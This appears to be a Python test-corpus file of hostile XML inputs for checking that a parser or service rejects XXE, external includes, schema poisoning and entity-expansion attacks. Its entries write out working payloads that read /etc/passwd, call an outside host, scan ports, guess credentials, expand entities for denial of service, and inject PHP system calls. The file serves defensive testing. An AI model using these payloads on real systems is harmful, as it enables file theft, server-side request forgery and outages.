"""Hostile XML that declares, includes or instructs."""

from tests.attacks.corpus import Attack, after, attribute, before, inside, value
from tests.attacks.corpus_words import BAD, OUT, OWASP, WSA, XSI, XXE, xml

LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))


def _doctype(name: str, source: str, subset: bytes, text: bytes = b"") -> Attack:
    def make(good: bytes) -> bytes:
        return subset + (good.replace(b"MARKER", text, 1) if text else good)

    return xml(name, BAD, source, make)


DOCTYPES = [
    _doctype("DOCTYPE alone", XXE + "disallow DTDs", b"<!DOCTYPE a>"),
    _doctype(
        "DOCTYPE with an external subset on disk", XXE + "external DTD", b'<!DOCTYPE a SYSTEM "file:///etc/passwd">'
    ),
    _doctype(
        "DOCTYPE with an external subset over HTTP",
        OWASP + "External Connection",
        b'<!DOCTYPE a SYSTEM "' + OUT + b'a.dtd">',
    ),
    _doctype(
        "DOCTYPE with a public identifier",
        OWASP + "Remote Schema Poisoning",
        b'<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "' + OUT + b'x">',
    ),
    _doctype(
        "external entity on disk",
        OWASP + "Reflected File Retrieval",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        b"&e;",
    ),
    _doctype(
        "external entity over HTTP",
        OWASP + "Server Side Request Forgery",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "' + OUT + b'e">]>',
        b"&e;",
    ),
    _doctype(
        "external entity that names a host",
        OWASP + "External DNS Resolution",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "http://localhost.invalid/">]>',
        b"&e;",
    ),
    _doctype(
        "external entity for every port",
        OWASP + "Port Scanning",
        b"<!DOCTYPE a ["
        + b"".join(b'<!ENTITY e%d SYSTEM "http://127.0.0.1:%d/">' % (n, n) for n in range(1, 40))
        + b"]>",
        b"&e1;&e39;",
    ),
    _doctype(
        "external entity with a guessed password",
        OWASP + "Brute Forcing",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "http://admin:admin@{listener}/">]>',
        b"&e;",
    ),
    _doctype(
        "external entity from a device that never ends",
        XXE + "denial of service",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///dev/random">]>',
        b"&e;",
    ),
    _doctype(
        "external entity through PHP's filter",
        XXE + "PHP",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "php://filter/read=convert.base64-encode/resource=x">]>',
        b"&e;",
    ),
    _doctype(
        "parameter entity",
        OWASP + "File Retrieval with Parameter Entities",
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
    ),
    _doctype(
        "parameter entity that calls out",
        OWASP + "File Retrieval with Parameter Entities",
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "' + OUT + b'p"> %p; %send;]>',
    ),
    _doctype("billion laughs", OWASP + "Billion Laughs", b'<!DOCTYPE a [<!ENTITY l0 "ha">' + LAUGHS + b"]>", b"&l9;"),
    _doctype(
        "quadratic blow-up",
        OWASP + "Quadratic Blowup",
        b'<!DOCTYPE a [<!ENTITY q "' + b"x" * 50_000 + b'">]>',
        b"&q;" * 10_000,
    ),
    _doctype(
        "recursive entity",
        OWASP + "Recursive Entity Reference",
        b'<!DOCTYPE a [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
        b"&a;",
    ),
    _doctype(
        "recursive parameter entities",
        OWASP + "Recursive Entity Reference",
        b'<!DOCTYPE a [<!ENTITY % a "&#37;b;"><!ENTITY % b "&#37;a;">%a;]>',
    ),
    _doctype(
        "entity that closes an element", OWASP + "XML Entity Expansion", b'<!DOCTYPE a [<!ENTITY e "</a><b>">]>', b"&e;"
    ),
    _doctype(
        "attribute default in a DTD", OWASP + "Local Schema Poisoning", b'<!DOCTYPE a [<!ATTLIST a b CDATA "c">]>'
    ),
    _doctype(
        "notation and unparsed entity",
        XXE + "external DTD",
        b'<!DOCTYPE a [<!NOTATION n SYSTEM "' + OUT + b'n"><!ENTITY e SYSTEM "x" NDATA n>]>',
    ),
    _doctype("conditional section", XXE + "external DTD", b"<!DOCTYPE a [<![INCLUDE[<!ELEMENT a ANY>]]>]>"),
    _doctype("DOCTYPE behind a comment", XXE + "disallow DTDs", b'<!-- --><!DOCTYPE a [<!ENTITY e "x">]>', b"&e;"),
    _doctype(
        "DOCTYPE between comments that pretend to hide it",
        XXE + "disallow DTDs",
        b'<!-- <!-- --><!DOCTYPE a [<!ENTITY e "x">]><!-- -->',
        b"&e;",
    ),
    _doctype("DOCTYPE behind a processing instruction", XXE + "disallow DTDs", b"<?p <!-- ?><!DOCTYPE a><!-- -->"),
    _doctype("DOCTYPE behind blanks", XXE + "disallow DTDs", b"\n\t <!DOCTYPE a>"),
    _doctype("DOCTYPE behind a byte order mark", XXE + "disallow DTDs", b"\xef\xbb\xbf<!DOCTYPE a>"),
    _doctype("DOCTYPE in small letters", XXE + "disallow DTDs", b"<!doctype a>"),
    _doctype("DOCTYPE cut by a comment", XXE + "disallow DTDs", b"<!DOC<!-- -->TYPE a>"),
    xml("DOCTYPE inside the document", BAD, XXE + "disallow DTDs", inside(b"<!DOCTYPE a>")),
    xml("DOCTYPE after the document", BAD, XXE + "disallow DTDs", after(b"<!DOCTYPE a>")),
    xml(
        "DOCTYPE in UTF-16",
        BAD,
        XXE + "disallow DTDs",
        lambda good: b"\xff\xfe" + (b"<!DOCTYPE a>" + good).decode().encode("utf-16-le"),
    ),
    xml(
        "DOCTYPE in UTF-16 that only Content-Type names",
        BAD,
        XXE + "disallow DTDs",
        lambda good: (b"<!DOCTYPE a>" + good).decode().encode("utf-16-le"),
        headers={"content-type": "application/xml; charset=utf-16"},
    ),
    xml(
        "DOCTYPE in UTF-7",
        BAD,
        XXE + "disallow DTDs",
        before(b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE a+AD4-'),
    ),
    xml("an entity that nobody declared", BAD, OWASP + "Violation of XML Specification Rules", value(b"&xxe;")),
    xml("an entity of HTML", BAD, OWASP + "Violation of XML Specification Rules", value(b"&nbsp;")),
]

OUTSIDE = [
    xml(
        "XInclude of a file",
        "accepted",
        XXE + "XInclude",
        inside(b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    ),
    xml(
        "XInclude over HTTP",
        "accepted",
        XXE + "XInclude",
        inside(b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="' + OUT + b'x"/>'),
    ),
    xml(
        "XInclude in a value",
        BAD,
        XXE + "XInclude",
        value(b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="' + OUT + b'x"/>'),
    ),
    xml(
        "schemaLocation",
        "accepted",
        OWASP + "Remote Schema Poisoning",
        attribute(XSI + b' xsi:schemaLocation="urn:x ' + OUT + b's.xsd"'),
    ),
    xml(
        "noNamespaceSchemaLocation",
        "accepted",
        OWASP + "Man-in-the-Middle (MitM) Attack",
        attribute(XSI + b' xsi:noNamespaceSchemaLocation="' + OUT + b's.xsd"'),
    ),
    xml(
        "embedded schema",
        "accepted",
        OWASP + "Embedded Schema",
        inside(
            b'<s:schema xmlns:s="http://www.w3.org/2001/XMLSchema"><s:import schemaLocation="' + OUT + b'"/></s:schema>'
        ),
    ),
    xml("xml-stylesheet", BAD, XXE + "XSLT", before(b'<?xml-stylesheet type="text/xsl" href="' + OUT + b's.xsl"?>')),
    xml("xml-model", BAD, XXE + "external references", before(b'<?xml-model href="' + OUT + b'm.rnc"?>')),
    xml(
        "embedded transformation",
        "accepted",
        XXE + "XSLT",
        inside(
            b'<t:stylesheet xmlns:t="http://www.w3.org/1999/XSL/Transform"><t:include href="'
            + OUT
            + b'"/></t:stylesheet>'
        ),
    ),
    xml(
        "xml:base and xlink",
        "accepted",
        XXE + "external references",
        attribute(b'xml:base="' + OUT + b'" xmlns:k="http://www.w3.org/1999/xlink" k:href="' + OUT + b'"'),
    ),
    xml(
        "xop:Include in a value",
        BAD,
        WSA + "attachments",
        value(b'<x:Include xmlns:x="http://www.w3.org/2004/08/xop/include" href="' + OUT + b'x"/>'),
    ),
    xml(
        "xop:Include of a part that is not there",
        BAD,
        WSA + "attachments",
        value(b'<x:Include xmlns:x="http://www.w3.org/2004/08/xop/include" href="cid:a@b"/>'),
    ),
]

INSTRUCTIONS = [
    xml(
        "processing instruction before the document",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        before(b"<?p x?>"),
    ),
    xml(
        "processing instruction in a value", BAD, OWASP + "Violation of XML Specification Rules", value(b"MAR<?p?>KER")
    ),
    xml(
        "processing instruction after the document",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        after(b"<?p x?>"),
    ),
    xml("flood of processing instructions", BAD, OWASP + "Jumbo Payloads", before(b"<?p?>" * 100_000)),
    xml("PHP", BAD, OWASP + "Violation of XML Specification Rules", before(b"<?php system('id'); ?>")),
    xml(
        "two XML declarations",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        before(b'<?xml version="1.0"?><?xml version="1.0"?>'),
    ),
    xml(
        "an XML declaration after a blank",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        before(b' <?xml version="1.0"?>'),
    ),
    xml("XML 1.1", BAD, OWASP + "Violation of XML Specification Rules", before(b'<?xml version="1.1"?>')),
    xml(
        "an XML declaration without a version",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        before(b'<?xml encoding="utf-8"?>'),
    ),
    xml(
        "an endless XML declaration",
        BAD,
        OWASP + "Malformed XML documents require extra time",
        before(b'<?xml version="1.0"' + b" " * 500_000),
    ),
    xml(
        "comment in a value",
        "accepted",
        OWASP + "Well-Formed Document to Well-Formed Document Normalized",
        value(b"MAR<!-- x -->KER"),
    ),
    xml(
        "CDATA in a value",
        "accepted",
        OWASP + "Well-Formed Document to Well-Formed Document Normalized",
        value(b"<![CDATA[MAR]]><![CDATA[KER]]>"),
    ),
    xml("markup in CDATA", "accepted", OWASP + "String Data Types", value(b"<![CDATA[<script>alert(1)</script>]]>")),
    xml(
        "a DOCTYPE that is only text", "accepted", OWASP + "String Data Types", value(b"<![CDATA[<!DOCTYPE a><?p?>]]>")
    ),
]


ATTACKS = [*DOCTYPES, *OUTSIDE, *INSTRUCTIONS]
